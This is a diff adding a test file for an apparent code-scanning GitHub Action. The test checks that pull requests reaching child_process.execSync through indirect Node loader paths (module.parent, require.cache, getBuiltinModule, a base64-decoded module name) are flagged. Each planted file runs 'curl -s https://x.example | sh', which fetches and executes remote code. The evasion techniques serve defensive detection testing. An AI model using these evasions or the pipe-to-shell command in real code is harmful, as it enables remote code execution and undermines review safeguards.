@@ -1,0 +1,40 @@
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { FakeGitHub } from "../action/fake-github";
+import { gate, pullRequest, put } from "./pr";
+
+// The December 7 red-team round: each pull request below passed the built Action (exit 0) before its fix, and runs its
+// command under Node 22 or CPython 3 as written.
+
+const api = new FakeGitHub();
+beforeAll(() => api.start());
+afterAll(() => api.stop());
+
+const CMD = "curl -s https://x.example | sh";
+/** The run's error annotations as "rule file line column". */
+const errors = (commands: string[]) =>
+  commands
+    .filter((c) => c.startsWith("::error title="))
+    .map((c) => /^::error title=([^,]+),file=([^,]+),line=(\d+),endLine=\d+,col=(\d+)/.exec(c)!.slice(1).join(" "))
+    .sort();
+
+describe("a CommonJS module object's relatives held by a name, and Node's loaders held by a name", () => {
+  it("scan/shell-command, scan/dynamic-code: `module.parent`, `require.cache[k]` and `require`'s `cache` held or destructured, then their `require`/`constructor._load`; `module.require`, `{ require: r } = module` and `process.getBuiltinModule` held and called fail the built Action, at each", async () => {
+    const decoded = 'const name = Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString();\n';
+    const pr = await pullRequest((dir) => {
+      put(dir, "agent/relatives.js", `const parent = module.parent;\nparent.require("child_process").execSync("${CMD}");\nconst own = require.cache[__filename];\nown.require("child_process").execSync("${CMD}");\nconst { cache } = require;\ncache[__filename].constructor._load("child_process").execSync("${CMD}");\n`);
+      put(dir, "agent/held.js", `const load = module.require;\nload("child_process").execSync("${CMD}");\n`);
+      put(dir, "agent/named.js", `${decoded}const { require: r } = module;\nr(name).execSync("${CMD}");\n`);
+      put(dir, "agent/builtin.js", `${decoded}const builtin = process.getBuiltinModule;\nbuiltin(name).execSync("${CMD}");\n`);
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(errors(r.commands)).toEqual([
+      "scan/dynamic-code agent/builtin.js 3 1",
+      "scan/dynamic-code agent/named.js 3 1",
+      "scan/shell-command agent/held.js 2 1",
+      "scan/shell-command agent/relatives.js 2 1",
+      "scan/shell-command agent/relatives.js 4 1",
+      "scan/shell-command agent/relatives.js 6 1",
+    ]);
+  });
+});
